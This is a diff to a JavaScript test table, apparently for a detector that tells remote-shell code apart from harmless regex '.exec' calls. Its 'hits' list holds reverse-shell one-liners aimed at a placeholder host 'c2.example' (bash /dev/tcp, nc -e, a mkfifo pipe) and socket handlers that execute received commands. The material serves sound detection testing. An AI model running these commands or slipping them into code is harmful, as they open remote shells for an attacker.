@@ -75,6 +75,8 @@ testTable({
       ['bash', "exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')"],
       ['orders of a request', "exec(req.headers['x-cmd'], done)"],
       ['orders of a socket', "s.on('cmd', (c) => exec(c, (e, out) => s.emit('out', out)))"],
+      ['orders of a process', "s.on('data', (d) => { const p = cp.exec(d.toString()); })"],
+      ['orders beside an expression', "const re = /x/; s.on('data', (d) => (re.test(d), sh.exec(d)))"],
       ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
       ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
       [
@@ -85,6 +87,12 @@ testTable({
     misses: [
       ['a look at a name', 'dns.resolveTxt(domain, (e, r) => done(r.some((t) => pattern.exec(t))))'],
       ['a pipe to a child', "input.pipe(child.stdin); child = spawn('gzip'); net.connect(1)"],
+      [
+        'what a program prints',
+        "const URL = /https:.+/; c.stderr.on('data', (d) => { const m = URL.exec(d.toString()); })",
+      ],
+      ['an expression made', "const $r = new RegExp(x); c.on('data', (d) => { $r.exec(String(d)); })"],
+      ['an expression on the spot', "c.on('data', (d) => done(/port (.+)/i.exec(d)))"],
       ['nc to look', "exec('nc -z localhost 80')"],
     ],
   },
